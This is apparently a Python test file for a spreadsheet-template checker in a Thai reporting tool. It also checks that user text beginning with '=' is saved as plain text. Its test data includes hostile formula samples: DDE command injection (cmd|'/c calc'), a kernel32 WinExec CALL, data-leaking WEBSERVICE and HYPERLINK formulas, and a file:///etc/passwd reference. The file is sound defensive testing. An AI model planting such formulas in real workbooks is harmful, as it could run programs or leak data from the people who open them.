"""What a template may not do: reach another file, a program or an address."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
import thaireport
from tests.support.tools import ROOT
from thaireport.reports import REPORTS
from thaireport.template_check import check_template
from thaireport.template_check.reaches import formula_fault

WORKBOOK = ROOT / "templates" / "action_plan.xlsx"
_RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%b</Relationships>'

REFUSED = {
    "another workbook": "[1]Sheet1!A1+1",
    "another workbook by its path": r"'C:\x\[b.xlsx]S'!A1",
    "a file": "'file:///etc/[passwd]S'!A1",
    "a program (DDE)": "cmd|'/c calc'!A0",
    "a web service": '_xlfn.WEBSERVICE("http://x/?"&A1)',
    "a picture of the web": '_xlfn.IMAGE("http://x/y.png")',
    "live data": 'RTD("prog",,"x")',
    "a call of a library": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "a program": 'exec ("calc")',
    "a database": 'SQL.REQUEST("x")',
    "the folder of the machine": 'INFO("directory")',
    "the name of the file": 'CELL("filename",A1)',
    "a link that takes data along": 'HYPERLINK("http://x/?"&A1,"ดู")',
    "a link to a file": r'HYPERLINK("\\server\x.exe","ดู")',
}
GOOD = {
    "a sum": "SUM(D$4:D$6)",
    "a text with signs": '"[ก]! | "&A1',
    "a column of a table": "SUM(ตาราง[ยอด])",
    "a link from a cell": "HYPERLINK(A1,B1)",
    "a whole link": 'HYPERLINK("https://www.example.go.th","เว็บไซต์")',
    "a function whose name ends alike": "MYCALL(A1)+RECALL(A2)",
    "another sheet": "'แผน งาน'!A1",
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_formula_may_not_reach(what: str) -> None:
    assert formula_fault(REFUSED[what])


@pytest.mark.parametrize("what", GOOD)
def test_a_formula_may_be(what: str) -> None:
    assert formula_fault(GOOD[what]) == ""


def _changed(edits: dict[str, Callable[[bytes], bytes]], **more: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(WORKBOOK) as before, zipfile.ZipFile(made, "w") as after:
        for name in before.namelist():
            after.writestr(name, edits.get(name, bytes)(before.read(name)))
        for name, part in more.items():
            after.writestr(name, part)
    return made.getvalue()


def _in_sheet(xml: bytes) -> dict[str, Callable[[bytes], bytes]]:
    return {"xl/worksheets/sheet1.xml": lambda part: part.replace(b"<pageMargins", xml + b"<pageMargins", 1)}


def _named(xml: bytes) -> dict[str, Callable[[bytes], bytes]]:
    return {"xl/workbook.xml": lambda part: part.replace(b"<definedNames>", b"<definedNames>" + xml, 1)}


_CALL = b'_xlfn.WEBSERVICE("http://x")'
BOOKS: dict[str, tuple[bytes, str]] = {
    "in a cell": (
        _changed({"xl/worksheets/sheet1.xml": lambda part: part.replace(
            b"</sheetData>", b'<row r="60"><c r="A60"><f>%b</f><v>0</v></c></row></sheetData>' % _CALL)}),
        "ช่อง A60",
    ),
    "in a name": (_changed(_named(b'<definedName name="x">%b</definedName>' % _CALL)), "ชื่อช่วง x"),
    "in a format": (
        _changed(_in_sheet(b'<conditionalFormatting sqref="Z1"><cfRule type="expression" priority="9">'
                           b"<formula>%b=1</formula></cfRule></conditionalFormatting>" % _CALL)),
        "WEBSERVICE",
    ),
    "as a macro's name": (_changed(_named(b'<definedName name="_xlnm.Auto_Open">A1</definedName>')), "แมโคร"),
    "as a macro": (_changed({}, **{"xl/vbaProject.bin": b"x"}), "แมโคร"),
    "as a connection": (_changed({}, **{"xl/connections.xml": b"<connections/>"}), "เชื่อม"),
    "as a picture from elsewhere": (
        _changed({}, **{"xl/worksheets/_rels/sheet1.xml.rels": _RELATIONS % (
            b'<Relationship Id="r1" Type="http://x/image" Target="http://x/y.png" TargetMode="External"/>')}),
        "เชื่อมออกนอกไฟล์",
    ),
    "in a part that nobody can read": (
        _changed({}, **{"xl/charts/chart9.xml": b"<c:chart><f>WEBSERVICE"}),
        "ส่วน xl/charts/chart9.xml ในแม่แบบอ่านไม่ได้",
    ),
}  # fmt: skip


@pytest.mark.parametrize("where", BOOKS)
def test_a_workbook_that_reaches_out_is_refused(where: str) -> None:
    data, said = BOOKS[where]
    found = check_template(data, "action_plan.xlsx", REPORTS["action_plan"], trial=False)
    errors = [f"{problem.place} {problem.message}" for problem in found if problem.level == "error"]
    assert any(said in error for error in errors), found


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x")'])
def test_data_that_looks_like_a_formula_arrives_as_text(start: str, tmp_path: Path) -> None:
    plan = thaireport.load(ROOT / "examples" / "action_plan.yaml")
    data = plan.stored()
    data["projects"][0]["title"] = f"{start} โครงการ"
    thaireport.save(thaireport.load(data), tmp_path / "plan.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "plan.xlsx").worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).endswith("โครงการ")]
    assert [cell.data_type for cell in cells if str(cell.value)[0] == start[0]] == ["s"]
